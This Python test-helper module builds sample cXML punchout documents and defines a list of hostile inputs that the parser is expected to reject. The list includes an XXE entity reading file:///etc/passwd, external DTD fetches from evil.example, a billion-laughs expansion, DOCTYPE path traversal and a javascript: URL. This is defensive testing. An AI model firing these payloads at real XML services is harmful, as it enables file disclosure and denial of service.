# Copyright 2026 OCI Punchout contributors
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
"""Documents and helpers shared by the unit tests of the Odoo-free cXML
punchout layer (test_tools_cxml_punchout*.py; no tests here)."""

import os
import re
from datetime import date
from decimal import Decimal

from lxml import etree

from ..tools import cxml_punchout as cp

DTD_PATH = os.environ.get("OCI_CXML_DTD") or "/opt/oci-validation/cXML.dtd"
PAYLOAD_ID_RE = re.compile(r"^\d{14}\.\d+\.[0-9a-f]{16}@[A-Za-z0-9.-]+$")
TIMESTAMP_RE = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}[+-]\d{2}:\d{2}$")
DOCTYPE = b'<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.063/cXML.dtd">'
SHOP, BUYER = ("DUNS", "123456789"), ("NetworkID", "AN01000000001")
SECRET = "hunter2-s3cret"
URL = "https://buyer.example.com/punchout/return?sess=1&x=%20y"
TEXT = 'Taart "Ëlan" <25 cm> & € 🎂 蛋糕'
COOKIE = "3423 4234ADF SDF234234"
CARD = f"Gefeliciteerd!\n\n  Van ons allemaal, {TEXT}"

SETUP = f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd">
<cXML payloadID="1233444-200@ariba.example.com" timestamp="2026-05-04T10:00:00+02:00">
  <Header>
    <From><Credential domain="NetworkID"><Identity>AN01000000001</Identity></Credential>
          <Credential domain="PrivateID"><Identity>ACME-NL</Identity></Credential></From>
    <To><Credential domain="DUNS"><Identity>123456789</Identity></Credential></To>
    <Sender><Credential domain="NetworkId"><Identity>AN01000000001</Identity>
        <SharedSecret>{SECRET}</SharedSecret></Credential>
      <UserAgent>Ariba SN Buyer</UserAgent></Sender>
  </Header>
  <Request deploymentMode="test">
    <PunchOutSetupRequest operation="OPERATION">
      <BuyerCookie>34234234ADFSDF234234</BuyerCookie>
      <Extrinsic name="UserEmail">jan@acme.nl</Extrinsic>
      <Extrinsic name="UniqueName">jjansen</Extrinsic>
      <Extrinsic name="CostCenter"> 4711 </Extrinsic>
      <Extrinsic name="CostCenter">9999</Extrinsic>
      <BrowserFormPost><URL>{URL.replace("&", "&amp;")}</URL></BrowserFormPost>
      <Contact role="buyer"><Name xml:lang="en">Inkoop</Name></Contact>
      <Contact role="endUser"><Name xml:lang="nl">Jan  Jansen</Name>
        <Email>jan@acme.nl</Email></Contact>
      <ShipTo><Address addressID="BR-ZWL" isoCountryCode="NL"><Name xml:lang="nl">Zwolle</Name>
        <PostalAddress><DeliverTo>Receptie</DeliverTo><Street>Hoofdstraat 1</Street>
          <Street>2e etage</Street><City>Zwolle</City><PostalCode>8011 AA</PostalCode>
          <Country isoCountryCode="nl">Nederland</Country></PostalAddress></Address></ShipTo>
      <SelectedItem><ItemID><SupplierPartID>TAART-24</SupplierPartID></ItemID></SelectedItem>
      <ItemOut quantity="2" lineNumber="1"><ItemID><SupplierPartID>TAART-24</SupplierPartID>
          <SupplierPartAuxiliaryID>S00042/17</SupplierPartAuxiliaryID></ItemID>
        <ItemDetail><UnitPrice><Money currency="EUR">32.50</Money></UnitPrice>
          <Description xml:lang="nl"><ShortName>Taart</ShortName>Slagroomtaart 24 cm</Description>
          <UnitOfMeasure>C62</UnitOfMeasure>
          <Classification domain="UNSPSC">50181900</Classification>
        </ItemDetail></ItemOut>
    </PunchOutSetupRequest>
  </Request>
</cXML>"""


def setup_xml(operation="create", old=None, new=None):
    xml = SETUP.replace(old, new) if old is not None else SETUP
    return xml.replace('operation="OPERATION"', f'operation="{operation}"').encode("utf-8")


def refused(data, code, match=None, **kwargs):
    try:
        cp.parse_setup_request(data, **kwargs)
    except cp.CxmlError as error:
        assert error.code == code, error.message
        assert SECRET not in error.message
        if match:
            assert re.search(match, error.message), error.message
        return error
    raise AssertionError(f"not refused, expected cXML status {code}")


def tags(node):
    return [child.tag for child in node]


def item(**values):
    base = dict(
        supplier_part_id="TAART-24",
        quantity=2,
        unit_price="32.50",
        description=f"Slagroomtaart {TEXT}",
        short_name="Slagroomtaart",
        unit_of_measure="C62",
        supplier_part_auxiliary_id="S00042/17",
        classifications=[("UNSPSC", "50181900"), ("NZI", "4711-22")],
        manufacturer_part_id="MP-9",
        manufacturer_name="Bakkerij Ëlan",
        lead_time=2,
        requested_delivery_date=date(2026, 5, 6),
        extrinsics={"GreetingCard": CARD, "Branch": "BR-ZWL"},
    )
    base.update(values)
    return base


def poom(items=None, **kwargs):
    kwargs.setdefault("shipping", ("6.95", "Bezorging"))
    kwargs.setdefault("tax", ("15.11", "BTW"))
    return cp.build_order_message(
        COOKIE,
        [item()] if items is None else items,
        "EUR",
        kwargs.pop("total", "65.00"),
        SHOP,
        BUYER,
        **kwargs,
    )


def parse(data):
    return etree.fromstring(
        data, etree.XMLParser(load_dtd=False, no_network=True, resolve_entities=False)
    )


def check_envelope(data):
    """What the guide requires of every document we write."""
    lines = data.split(b"\n")
    assert lines[0] == b'<?xml version="1.0" encoding="UTF-8"?>'
    assert lines[1] == DOCTYPE
    root = parse(data)
    assert root.tag == "cXML" and root.get("version") == cp.CXML_VERSION
    assert PAYLOAD_ID_RE.match(root.get("payloadID")), root.get("payloadID")
    assert TIMESTAMP_RE.match(root.get("timestamp")), root.get("timestamp")
    assert b"SharedSecret" not in data or b"<Request" in data
    return root


XXE = b"""<?xml version="1.0"?><!DOCTYPE cXML [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<cXML payloadID="1"><Request><PunchOutSetupRequest operation="create">
<BuyerCookie>&x;</BuyerCookie></PunchOutSetupRequest></Request></cXML>"""
LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">
<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<cXML>&lol3;</cXML>"""
PARAMETER = b"""<?xml version="1.0"?><!DOCTYPE cXML [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">
%p;]><cXML/>"""


HOSTILE = [
    (XXE, 400, "entity"),
    (XXE.replace(b"file:///etc/passwd", b"http://evil.example/x"), 400, "entity"),
    (LAUGHS, 400, "entity"),
    (PARAMETER, 400, "entity"),
    (XXE.decode().encode("utf-16"), 400, None),
    (b"\xfe\xff" + XXE.decode().encode("utf-16-be"), 400, None),
    (setup_xml(old="1.2.014/cXML.dtd", new="../../evil.dtd"), 400, "DOCTYPE"),
    (
        setup_xml(
            old="http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd", new="file:///etc/passwd"
        ),
        400,
        "DOCTYPE",
    ),
    (b"", 400, "empty"),
    (b"\x00\x01junk\xff", 400, "well-formed"),
    (b"<cXML><Header>", 400, r"well-formed XML: Premature end .* column 15\.$"),
    (b"<OrderRequest/>", 400, "not a cXML"),
    (
        setup_xml().replace(b"PunchOutSetupRequest", b"ProfileRequest"),
        400,
        "no PunchOutSetupRequest",
    ),
    (setup_xml(old='payloadID="1233444-200@ariba.example.com"', new=""), 400, "payloadID"),
    (setup_xml(old='deploymentMode="test"', new='deploymentMode="debug"'), 400, "deploymentMode"),
    (setup_xml(old="<BuyerCookie>34234234ADFSDF234234</BuyerCookie>", new=""), 400, "BuyerCookie"),
    (setup_xml(old="34234234ADFSDF234234", new="x" * 1021), 400, "BuyerCookie is longer"),
    (
        setup_xml(old="<BrowserFormPost>", new="<Foo>").replace(b"</BrowserFormPost>", b"</Foo>"),
        400,
        "BrowserFormPost",
    ),
    (setup_xml(old=URL.replace("&", "&amp;"), new="javascript:alert(1)"), 400, "http"),
    (setup_xml(old="<Sender>", new="<Other>").replace(b"</Sender>", b"</Other>"), 400, "Sender"),
    (
        setup_xml(old="<Extrinsic ", new='<Extrinsic name="n">x</Extrinsic>' * 101 + "<Extrinsic "),
        400,
        "More than 100 Extrinsic",
    ),
]


def built_documents():
    ship_to = cp.Address("BR", "Zwolle", (), ("Hoofdstraat 1",), "Zwolle", "8011 AA", "NL")
    line = cp.ItemOut(
        "TAART-24",
        "S1/2",
        Decimal(2),
        Decimal("32.50"),
        "EUR",
        "Taart",
        "C62",
        (("UNSPSC", "50181900"),),
    )
    setup = dict(from_=BUYER, to=SHOP, sender=BUYER, shared_secret=SECRET)
    return {
        "setup create": cp.build_setup_request("c", URL, **setup),
        "setup edit": cp.build_setup_request(
            "c",
            URL,
            operation="edit",
            extrinsics={"UserEmail": "a@b.nl"},
            contact=("Jan", "a@b.nl"),
            ship_to=ship_to,
            selected_item=line,
            items=[line],
            deployment_mode="test",
            **setup,
        ),
        "setup response": cp.build_setup_response(URL),
        "status 401": cp.build_status_response(401, detail="Wrong credentials"),
        "poom full": poom(in_reply_to="x@y"),
        "poom minimal": poom(
            [
                item(
                    short_name="",
                    manufacturer_part_id="",
                    lead_time=None,
                    manufacturer_name="",
                    requested_delivery_date="",
                    extrinsics=(),
                )
            ],
            shipping=None,
            tax=None,
        ),
        "poom cancel": cp.build_cancel_message("c", "EUR", SHOP, BUYER),
    }
